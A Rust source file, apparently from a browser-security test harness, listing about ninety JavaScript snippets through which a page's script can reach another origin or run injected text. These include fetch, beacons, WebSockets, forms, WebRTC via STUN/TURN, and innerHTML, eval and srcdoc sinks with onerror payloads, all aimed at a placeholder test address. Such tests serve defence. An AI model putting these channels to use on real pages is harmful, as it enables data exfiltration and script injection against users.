//! Every way out of a page that we know of, as the few words with which a hostile script would try it.
//!
//! In each, `at` names where it goes: `at.url`, `at.host`, `at.origin`, `at.path`; `at.key` is a name of its own, and
//! `at.code` a text that leaves a mark if it is ever run. `put` makes an element with attributes in the page.
//!
//! `dns-prefetch` is missing: what it tells cannot be heard here, and it stands and falls with `preconnect`.

/// At whom a way can be aimed.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Aim {
    /// Another origin, and the page's own.
    Both,
    /// Another origin alone.
    Other,
    /// Nobody: it turns text into code that runs in the page.
    Code,
}

pub(super) struct Way {
    pub(super) name: &'static str,
    pub(super) aim: Aim,
    /// The page itself may be left by it, so it is tried alone.
    pub(super) leaves: bool,
    pub(super) script: &'static str,
}

const fn both(name: &'static str, script: &'static str) -> Way {
    Way { name, aim: Aim::Both, leaves: false, script }
}

const fn other(name: &'static str, script: &'static str) -> Way {
    Way { name, aim: Aim::Other, leaves: false, script }
}

const fn code(name: &'static str, script: &'static str) -> Way {
    Way { name, aim: Aim::Code, leaves: false, script }
}

const fn leaves(name: &'static str, script: &'static str) -> Way {
    Way { name, aim: Aim::Both, leaves: true, script }
}

/// What every way may use. `now` is called with the way's number, its words and where it goes.
pub(super) const HELPERS: &str = r"
window.ran = {};
const put = (tag, attributes = {}, parent = document.body, text = '') => {
    const element = document.createElement(tag);
    for (const name in attributes) element.setAttribute(name, attributes[name]);
    if (text) element.append(document.createTextNode(text));
    parent.append(element);
    return element;
};
const realm = () => put('iframe').contentWindow;
const call_up = (kind, servers) => {
    const call = new kind({ iceServers: servers, iceTransportPolicy: servers[0].username ? 'relay' : 'all' });
    call.createDataChannel('way');
    return call.createOffer().then(offer => call.setLocalDescription(offer));
};
const stun = at => [{ urls: `stun:${at.host}` }];
const turn = at => [{ urls: `turn:${at.host}?transport=tcp`, username: 'name', credential: 'word' }];
const place = (origin, number) => ({
    origin, key: `way-${origin.slice(17)}-${number}`, path: `way/${number}`, url: `${origin}/way/${number}`, host: origin.slice(7),
    code: `(window.ran || parent.ran)[${number}] = true`, mark: () => { ran[number] = true },
});
";

pub(super) const WAYS: &[Way] = &[
    both("fetch", "fetch(at.url, { mode: 'no-cors' })"),
    both(
        "fetch with keepalive",
        "fetch(at.url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    ),
    both("fetchLater", "fetchLater(at.url, { activateAfter: 0 })"),
    both("XMLHttpRequest", "const ask = new XMLHttpRequest(); ask.open('GET', at.url); ask.send()"),
    both("sendBeacon", "navigator.sendBeacon(at.url, 'x')"),
    both("EventSource", "new EventSource(at.url)"),
    both("WebSocket", "new WebSocket(at.url.replace('http', 'ws'))"),
    both("WebSocketStream", "new WebSocketStream(at.url.replace('http', 'ws'))"),
    other("WebTransport", "new WebTransport(at.url.replace('http', 'https'))"),
    both("link with ping", "put('a', { href: '#way', ping: at.url }).click()"),
    both("img", "put('img', { src: at.url })"),
    both("img with srcset", "put('img', { srcset: `${at.url} 1x` })"),
    both(
        "picture",
        "const all = put('picture'); put('source', { srcset: at.url }, all); put('img', {}, all)",
    ),
    both("input of type image", "put('input', { type: 'image', src: at.url })"),
    both(
        "image in SVG",
        "const all = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
         const one = document.createElementNS('http://www.w3.org/2000/svg', 'image');
         one.setAttribute('href', at.url); all.append(one); document.body.append(all)",
    ),
    both("background of a table", "put('table', { background: at.url }, document.body, 'x')"),
    both("poster of a video", "put('video', { poster: at.url })"),
    both("icon of the page", "put('link', { rel: 'icon', href: at.url }, document.head)"),
    both("preload", "put('link', { rel: 'preload', as: 'image', href: at.url }, document.head)"),
    both("prefetch", "put('link', { rel: 'prefetch', href: at.url }, document.head)"),
    both("style set by script", "put('p', {}, document.body, 'x').style.backgroundImage = `url(${at.url})`"),
    both(
        "rule added to a style sheet",
        "put('p', { class: at.key }, document.body, 'x');
         document.styleSheets[0].insertRule(`.${at.key} { background: url(${at.url}) }`)",
    ),
    both(
        "adopted style sheet",
        "put('p', { class: at.key }, document.body, 'x');
         const sheet = new CSSStyleSheet();
         sheet.replaceSync(`.${at.key} { background: url(${at.url}) }`);
         document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]",
    ),
    both(
        "style element",
        "put('p', { class: at.key }, document.body, 'x');
         put('style', {}, document.head, `.${at.key} { background: url(${at.url}) }`)",
    ),
    both("style attribute", "put('p', { style: `background: url(${at.url})` }, document.body, 'x')"),
    both("@import", "put('style', {}, document.head, `@import url(${at.url})`)"),
    both("style sheet", "put('link', { rel: 'stylesheet', href: at.url }, document.head)"),
    both("font", "new FontFace('way', `url(${at.url})`).load()"),
    both("video", "put('video', { src: at.url, preload: 'auto' })"),
    both("audio", "new Audio(at.url).load()"),
    both(
        "track of a video",
        "const film = put('video', { crossorigin: 'anonymous' });
         put('track', { src: at.url, default: '' }, film).track.mode = 'showing'",
    ),
    both("script", "put('script', { src: at.url })"),
    both("module", "put('script', { src: at.url, type: 'module' })"),
    both("modulepreload", "put('link', { rel: 'modulepreload', href: at.url }, document.head)"),
    both("import()", "import(at.url)"),
    both("worklet", "new AudioContext().audioWorklet.addModule(at.url)"),
    both(
        "speculation rules",
        "put('script', { type: 'speculationrules' }, document.head,
            JSON.stringify({ prefetch: [{ source: 'list', urls: [at.url] }] }))",
    ),
    both("Worker", "new Worker(at.url)"),
    both("SharedWorker", "new SharedWorker(at.url)"),
    both("service worker", "navigator.serviceWorker.register(at.url)"),
    both("object", "put('object', { data: at.url })"),
    both("embed", "put('embed', { src: at.url })"),
    both("frame", "put('iframe', { src: at.url })"),
    both("frame sent elsewhere", "realm().location = at.url"),
    both("frame of a data address", "put('iframe', { src: `data:text/html,<img src=${at.url}>` })"),
    both("frame with its own text", "put('iframe', { srcdoc: `<img src=${at.url}>` })"),
    both("fetch of a frame", "realm().fetch(at.url, { mode: 'no-cors' })"),
    both("beacon of a frame", "realm().navigator.sendBeacon(at.url, 'x')"),
    both("WebSocket of a frame", "new (realm().WebSocket)(at.url.replace('http', 'ws'))"),
    both("picture of a frame", "const one = new (realm().Image)(); one.src = at.url"),
    both(
        "other base address",
        "const base = put('base', { href: `${at.origin}/` }, document.head);
         fetch(at.path, { mode: 'no-cors' }); base.remove()",
    ),
    leaves("form, GET", "put('form', { action: at.url, target: '_blank' }).submit()"),
    leaves("form, POST", "put('form', { action: at.url, method: 'post', target: '_blank' }).submit()"),
    both(
        "form into a frame",
        "realm().name = at.key; put('form', { action: at.url, target: at.key }).submit()",
    ),
    code("inline script", "put('script', {}, document.body, at.code)"),
    code("eval", "eval(at.code)"),
    code("new Function", "new Function(at.code)()"),
    code("timer with text", "setTimeout(at.code)"),
    code("event attribute", "put('button', { onclick: at.code }).click()"),
    code("javascript: address", "put('a', { href: `javascript:void(${at.code})` }).click()"),
    code("innerHTML", "put('div').innerHTML = `<img src=data: onerror='${at.code}'>`"),
    code("outerHTML", "put('div').outerHTML = `<img src=data: onerror='${at.code}'>`"),
    code(
        "insertAdjacentHTML",
        "put('div').insertAdjacentHTML('beforeend', `<img src=data: onerror='${at.code}'>`)",
    ),
    code("setHTMLUnsafe", "put('div').setHTMLUnsafe(`<img src=data: onerror='${at.code}'>`)"),
    code(
        "fragment of a range",
        "document.body.append(document.createRange().createContextualFragment(`<script>${at.code}</script>`))",
    ),
    code(
        "parsed document",
        "const made = new DOMParser().parseFromString(`<img src=data: onerror='${at.code}'>`, 'text/html');
         document.body.append(made.body.firstChild)",
    ),
    code("document.write", "realm().document.write(`<script>${at.code}</script>`)"),
    code(
        "text of a script",
        "const one = document.createElement('script'); one.text = at.code; document.body.append(one)",
    ),
    code("frame with a script", "put('iframe', { srcdoc: `<script>${at.code}</script>` })"),
    code(
        "Worker of a blob",
        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = at.mark",
    ),
    code("Worker of a data address", "new Worker('data:text/javascript,postMessage(1)').onmessage = at.mark"),
    code("eval of a frame", "realm().eval(at.code)"),
    code("policy of trusted types", "trustedTypes.createPolicy('way', {}); at.mark()"),
    code(
        "more WebAssembly",
        "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); at.mark()",
    ),
    other("WebRTC by STUN", "call_up(RTCPeerConnection, stun(at))"),
    other("WebRTC by TURN", "call_up(RTCPeerConnection, turn(at))"),
    other("preconnect", "put('link', { rel: 'preconnect', href: at.url }, document.head)"),
    Way {
        name: "WebRTC of a frame",
        aim: Aim::Other,
        leaves: true,
        script: "call_up(realm().RTCPeerConnection, stun(at))",
    },
    leaves("window.open", "open(at.url)"),
    leaves("window.open without an opener", "open(at.url, '_blank', 'noopener')"),
    leaves("link to a new window", "put('a', { href: at.url, target: '_blank' }).click()"),
    leaves("window.open of a frame", "frames.ready.open(at.url)"),
    leaves("download", "put('a', { href: at.url, download: 'x' }).click()"),
    leaves("link", "put('a', { href: at.url }).click()"),
    leaves("location", "location = at.url"),
    leaves("location.replace", "location.replace(at.url)"),
    leaves("navigation.navigate", "navigation.navigate(at.url)"),
    leaves("location set by a frame", "frames.ready.top.location = at.url"),
    leaves("refresh", "put('meta', { 'http-equiv': 'refresh', content: `0; url=${at.url}` }, document.head)"),
];
